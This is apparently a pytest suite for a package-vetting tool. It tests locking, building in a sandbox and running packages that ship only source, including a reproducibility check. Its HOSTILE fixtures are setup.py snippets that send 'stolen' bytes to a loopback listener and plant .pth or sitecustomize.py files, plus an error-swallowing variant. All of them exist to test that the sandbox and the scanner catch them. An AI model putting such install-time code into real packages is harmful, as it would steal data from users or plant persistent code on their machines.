"""Packages that ship only source, built in the sandbox: lock, build, run; hostile sdists.

A loopback index serves the sdists these tests write, the ``tinybuild`` backend they
build with (a wheel, resolved and hash-pinned as a build requirement) and, when this
machine has one, a setuptools wheel that builds wheels by itself. Nothing is fetched from
anywhere else: pip's pinned wheel for the build container comes from the user's skillgate
cache when it is there (``sandbox.wheelhouse.pip_wheel`` downloads it otherwise, as for
every image build), and so does the image build's pipdeptree. Every hostile ``setup.py``
targets only loopback, from inside a container whose loopback is its own.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import tempfile
import threading
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from checker.exit_codes import ExitCode
from checker.lock import source_builds
from checker.lock.artifacts import cache_root
from checker.lock.lockfile import read_lock
from sandbox.base_image import BaseImage
from sandbox.engine import LABEL_ROLE
from sandbox.gc import leftovers
from sandbox.source_builds import ROLE
from sandbox.wheelhouse import PIP_WHEEL
from tests.conftest import run_cli
from tests.lock.local_index import make_project_sdist, serve, write_index
from tests.lock.source_packages import (
    SETUPTOOLS_BUILD_SYSTEM,
    make_backend_wheel,
    make_tiny_sdist,
    setuptools_wheel,
)

# network: on a machine whose skillgate cache lacks pip's pinned wheel or pipdeptree, the
# image build downloads them (as every image build does); the packages under test come
# from the loopback index only.
pytestmark = [pytest.mark.docker, pytest.mark.network]

AGENT = "builder-bot"
LOCK = "skills/{skill}/requirements.lock"
MODULE = "def greet(name):\n    return 'hello ' + name + ' from a wheel built in the sandbox'\n"
MAIN = (
    "import json\nimport sys\n\nimport {module}\n\n"
    "data = json.load(sys.stdin)\n"
    "result = {{'greeting': {module}.greet(data['name']), 'from': {module}.__file__}}\n"
    "json.dump(result, sys.stdout)\n"
)
POLICY = {
    "maturity.yaml": (
        "levels:\n  - name: STUDENT\n    packages: false\n  - name: INTERN\n    packages: true\n"
        "default_level: STUDENT\n"
    ),
    "agents.yaml": f"agents:\n  - id: {AGENT}\n    level: INTERN\n    owner: tests\n",
    "scanning.yaml": "max_db_age_days: 100000\n",
}
APPROVAL = (
    "  - package: {name}\n    versions: '=={version}'\n    min_level: INTERN\n"
    "    approved_by: security-team\n    reason: reviewed source-only release\n"
    "    build_from_source: true\n"
)
SKILL = (
    "id: {skill}\ndescription: uses a package built from source\nowner: tests\n"
    "min_level: INTERN\nentrypoint: main.py\nrequirements:\n  - {name}=={version}\n"
)


@dataclass(frozen=True)
class SourceIndex:
    """The loopback index (its files directory and simple URL) and the host listener every
    hostile ``setup.py`` tries to reach."""

    files: Path
    root: Path
    simple: str
    listener: Listener


class Listener:
    """A TCP listener on the host's 127.0.0.1 that counts the connections it accepts."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self._socket.settimeout(0.2)
        self.port = int(self._socket.getsockname()[1])
        self.accepted = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self._socket.accept()
            except OSError:
                continue
            self.accepted += 1
            connection.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self._socket.close()


@pytest.fixture
def source_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A private skillgate cache (artifacts, build records), seeded from the user's cache
    with what every image build needs and that is not under test: pip's pinned wheel and
    the unpacked pipdeptree of the installed-tree check (both hash-pinned)."""
    user = cache_root()
    cache = tmp_path / "cache"
    cache.mkdir()
    monkeypatch.setenv("SKILLGATE_CACHE", str(cache))
    if (user / "pip" / PIP_WHEEL).is_file():
        (cache / "pip").mkdir()
        shutil.copyfile(user / "pip" / PIP_WHEEL, cache / "pip" / PIP_WHEEL)
    if (user / "tools").is_dir():
        shutil.copytree(user / "tools", cache / "tools")
    return cache


@pytest.fixture
def source_index(
    tmp_path: Path, source_cache: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[SourceIndex]:
    """The only index pip and uv know, on 127.0.0.1, serving the build backend."""
    for name in ("PIP_EXTRA_INDEX_URL", "PIP_FIND_LINKS", "PIP_NO_INDEX", "UV_INDEX_URL"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("PIP_CONFIG_FILE", os.devnull)
    monkeypatch.setenv("PIP_NO_CACHE_DIR", "1")
    root = tmp_path / "index"
    files = root / "files"
    files.mkdir(parents=True)
    make_backend_wheel(files)
    found = setuptools_wheel()
    if found is not None:
        shutil.copyfile(found, files / found.name)
    write_index(root, sorted(files.iterdir()))
    listener = Listener()
    try:
        with serve(root) as url:
            monkeypatch.setenv("PIP_INDEX_URL", f"{url}/simple")
            yield SourceIndex(files=files, root=root, simple=f"{url}/simple", listener=listener)
    finally:
        listener.close()


def _publish(index: SourceIndex, sdist: Path) -> None:
    assert sdist.parent == index.files
    write_index(index.root, sorted(index.files.iterdir()))


def _repo(root: Path, skill: str, name: str, version: str, *, approve: bool) -> Path:
    policy = root / "policy"
    (policy / "packages").mkdir(parents=True)
    for file, text in POLICY.items():
        (policy / file).write_text(text)
    approval = APPROVAL.format(name=name, version=version)
    if not approve:
        approval = approval.replace("    build_from_source: true\n", "")
    (policy / "packages" / f"{name}.yaml").write_text("approvals:\n" + approval)
    directory = root / "skills" / skill
    directory.mkdir(parents=True)
    (directory / "skill.yaml").write_text(SKILL.format(skill=skill, name=name, version=version))
    (directory / "main.py").write_text(MAIN.format(module=name.replace("-", "_")))
    return root


def _cli(repo: Path, *args: str) -> tuple[int, str, str]:
    result = run_cli([*args, "--repo", str(repo)])
    return result.exit_code, result.stdout, result.stderr


def _built_wheels(cache: Path, name: str) -> list[Path]:
    return sorted((cache / "artifacts" / "sha256").glob(f"*/{name}-*.whl"))


def _wipe_builds(cache: Path) -> None:
    """A cold cache for built wheels (a fresh CI machine): records and artifacts gone."""
    shutil.rmtree(cache / "artifacts", ignore_errors=True)
    shutil.rmtree(cache / source_builds.BUILDS_DIR, ignore_errors=True)


def _build_dirs() -> set[str]:
    return {
        p.name
        for p in Path(tempfile.gettempdir()).iterdir()
        if p.name.startswith(("skillgate-source-build-", "skillgate-source-in-"))
    }


def _source_build_containers(client: Any) -> list[str]:
    return [c.name for c in leftovers(client) if c.labels.get(LABEL_ROLE) == ROLE]


def test_sdist_only_package_is_locked_built_and_run(
    docker_client: Any,
    base_image: BaseImage,
    source_index: SourceIndex,
    source_cache: Path,
    tmp_path: Path,
) -> None:
    make_tiny_sdist(source_index.files, "tinylib", "1.0", module=MODULE)
    write_index(source_index.root, sorted(source_index.files.iterdir()))
    repo = _repo(tmp_path / "repo", "hello-source", "tinylib", "1.0", approve=True)
    lock_file = repo / LOCK.format(skill="hello-source")

    # The approval's build_from_source allows it: no flag needed.
    code, out, err = _cli(repo, "lock")
    assert (code, out) == (0, ""), err
    assert "hello-source/requirements.lock: tinylib==1.0 built from tinylib-1.0.tar.gz" in err
    first = lock_file.read_bytes()
    (pkg,) = read_lock(lock_file).packages
    assert pkg.built_from is not None
    assert pkg.built_from.filename == "tinylib-1.0.tar.gz"
    assert [f.filename for f in pkg.build_requires] == ["tinybuild-1.0-py3-none-any.whl"]
    assert pkg.files[0].url == f"built:sha256:{pkg.built_from.sha256}"
    (wheel,) = _built_wheels(source_cache, "tinylib")
    with zipfile.ZipFile(wheel) as archive:
        assert archive.read("tinylib/__init__.py").decode() == MODULE

    # Locking again: the build cache answers, the bytes are identical.
    code, _, err = _cli(repo, "lock")
    assert code == 0
    assert err.endswith("skills/hello-source/requirements.lock: 1 package, unchanged\n")
    assert lock_file.read_bytes() == first

    # A fresh machine (cold build cache) builds the image: the wheel is built again in the
    # sandbox and must come out with the locked hash; the image installs it and runs.
    _wipe_builds(source_cache)
    code, out, err = _cli(repo, "build", "--no-scan")
    assert code == ExitCode.OK, out + err
    payload = json.dumps({"name": "agent"})
    code, out, err = _cli(repo, "run", "hello-source", "--agent", AGENT, "--input", payload)
    assert code == ExitCode.OK, err
    result = json.loads(out)
    assert result["greeting"] == "hello agent from a wheel built in the sandbox"
    assert result["from"].startswith("/opt/venv/lib/python3")
    assert _source_build_containers(docker_client) == []
    # Locking from the rebuilt cache still gives the same bytes (reproducible build).
    assert _cli(repo, "lock")[0] == 0
    assert lock_file.read_bytes() == first


@pytest.mark.skipif(setuptools_wheel() is None, reason="no setuptools >= 70.1 wheel on this host")
def test_a_setuptools_project_builds_from_its_setup_py(
    docker_client: Any,
    base_image: BaseImage,
    source_index: SourceIndex,
    source_cache: Path,
    tmp_path: Path,
) -> None:
    setup = (
        "from setuptools import setup\nsetup(name='oldlib', version='0.3', packages=['oldlib'])\n"
    )
    make_project_sdist(
        source_index.files,
        "oldlib",
        "0.3",
        {"setup.py": setup, "oldlib/__init__.py": MODULE},
        build_system=SETUPTOOLS_BUILD_SYSTEM,
    )
    write_index(source_index.root, sorted(source_index.files.iterdir()))
    repo = _repo(tmp_path / "repo", "old-source", "oldlib", "0.3", approve=False)
    code, out, err = _cli(repo, "lock", "--allow-sdist", "oldlib")
    assert (code, out) == (0, ""), err
    (pkg,) = read_lock(repo / LOCK.format(skill="old-source")).packages
    assert [f.filename.split("-")[0] for f in pkg.build_requires] == ["setuptools"]
    (wheel,) = _built_wheels(source_cache, "oldlib")
    with zipfile.ZipFile(wheel) as archive:
        assert archive.read("oldlib/__init__.py").decode() == MODULE
        assert "oldlib-0.3.dist-info/METADATA" in archive.namelist()
    # Reproducible: a cold cache builds the same wheel again.
    first = (repo / LOCK.format(skill="old-source")).read_bytes()
    _wipe_builds(source_cache)
    assert _cli(repo, "lock", "--allow-sdist", "oldlib")[0] == 0
    assert (repo / LOCK.format(skill="old-source")).read_bytes() == first


HOSTILE = {
    "network": (
        "import socket\n"
        "socket.create_connection(('127.0.0.1', {port}), timeout=5).sendall(b'stolen')\n",
        "Connection refused",
    ),
    "write-etc": (
        "open('/etc/skillgate-pwned', 'w').write('pwned')\n",
        "Read-only file system",
    ),
    "write-inputs": (
        "import os, sys\nopen(os.path.join('/in', 'pwned.pth'), 'w').write('import os')\n",
        "Read-only file system",
    ),
    "write-output": (
        "import os\n"
        "for top in ('/out', os.path.expanduser('~')):\n"
        "    open(os.path.join(top, 'sitecustomize.py'), 'w').write('print(1)')\n",
        "exactly one wheel",
    ),
}


@pytest.mark.parametrize("attack", sorted(HOSTILE))
def test_a_hostile_setup_py_fails_to_build_and_leaves_nothing(
    docker_client: Any,
    base_image: BaseImage,
    source_index: SourceIndex,
    source_cache: Path,
    tmp_path: Path,
    attack: str,
) -> None:
    setup, expected = HOSTILE[attack]
    make_tiny_sdist(
        source_index.files,
        "evil",
        "1.0",
        module=MODULE,
        setup_py=setup.format(port=source_index.listener.port),
    )
    write_index(source_index.root, sorted(source_index.files.iterdir()))
    repo = _repo(tmp_path / "repo", "evil-skill", "evil", "1.0", approve=False)
    before = _build_dirs()
    code, out, err = _cli(repo, "lock", "--allow-sdist", "evil")
    assert code == ExitCode.UNDECIDED, out + err
    assert err.startswith("Error: evil==1.0: ")
    assert "nothing was kept" in err
    assert expected in err
    assert not (repo / LOCK.format(skill="evil-skill")).exists()
    assert _built_wheels(source_cache, "evil") == []
    assert not list((source_cache / source_builds.BUILDS_DIR).glob("*.json"))
    assert _source_build_containers(docker_client) == []
    assert _build_dirs() <= before
    assert source_index.listener.accepted == 0
    assert not Path("/etc/skillgate-pwned").exists()


def test_contained_install_time_code_builds_but_the_scan_reports_it(
    docker_client: Any,
    base_image: BaseImage,
    source_index: SourceIndex,
    source_cache: Path,
    tmp_path: Path,
    advisory_index: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Malware that swallows its errors: every attempt fails inside the sandbox, the wheel is
    # built; the scan reads the sdist's setup.py and fails the gate at error level.
    setup = (
        "import socket\n"
        "try:\n"
        f"    socket.create_connection(('127.0.0.1', {source_index.listener.port}), timeout=5)\n"
        "except OSError:\n"
        "    pass\n"
        "try:\n"
        "    open('/etc/skillgate-pwned', 'w').write('pwned')\n"
        "except OSError:\n"
        "    pass\n"
    )
    make_tiny_sdist(source_index.files, "sneaky", "1.0", module=MODULE, setup_py=setup)
    write_index(source_index.root, sorted(source_index.files.iterdir()))
    repo = _repo(tmp_path / "repo", "sneaky-skill", "sneaky", "1.0", approve=False)
    code, out, err = _cli(repo, "lock", "--allow-sdist", "sneaky")
    assert code == 0, out + err
    assert source_index.listener.accepted == 0
    monkeypatch.setenv("SKILLGATE_VULN_DB", str(advisory_index))
    code, out, err = _cli(repo, "scan", "--format", "json")
    assert code == ExitCode.FINDINGS, err
    hooks = [f for f in json.loads(out)["findings"] if f["rule"] == "mal.install-hook-network"]
    assert [(f["severity"], f["file"]) for f in hooks] == [
        ("error", LOCK.format(skill="sneaky-skill"))
    ]
    assert hooks[0]["message"].startswith(
        "sneaky==1.0: sneaky-1.0.tar.gz!sneaky-1.0/setup.py: install-time code opens a connection"
    )
    # The gate refuses to build the image.
    code, out, err = _cli(repo, "build")
    assert code == ExitCode.FINDINGS


def test_a_build_that_is_not_reproducible_is_reported(
    docker_client: Any,
    base_image: BaseImage,
    source_index: SourceIndex,
    source_cache: Path,
    tmp_path: Path,
) -> None:
    setup = (
        "import os\n"
        "with open('drift/_stamp.py', 'w') as handle:\n"
        "    handle.write('STAMP = ' + repr(os.urandom(8).hex()) + '\\n')\n"
    )
    make_tiny_sdist(source_index.files, "drift", "1.0", module=MODULE, setup_py=setup)
    write_index(source_index.root, sorted(source_index.files.iterdir()))
    repo = _repo(tmp_path / "repo", "drift-skill", "drift", "1.0", approve=True)
    lock_file = repo / LOCK.format(skill="drift-skill")
    code, out, err = _cli(repo, "lock")
    assert code == 0, out + err
    locked = lock_file.read_bytes()
    (pkg,) = read_lock(lock_file).packages

    # CI's image build starts from a cold cache: the rebuilt wheel differs from the lock's.
    _wipe_builds(source_cache)
    code, out, err = _cli(repo, "build", "--no-scan")
    assert code == ExitCode.UNDECIDED, out + err
    assert err.startswith("Error: drift==1.0: the build is not reproducible: ")
    assert f"the lock has sha256:{pkg.files[0].sha256}" in err
    assert _built_wheels(source_cache, "drift") == []
    # Re-locking the same sdist with the same build requirements is refused as well.
    code, out, err = _cli(repo, "lock")
    assert code == ExitCode.UNDECIDED
    assert "the build is not reproducible" in err
    assert lock_file.read_bytes() == locked
    assert _source_build_containers(docker_client) == []
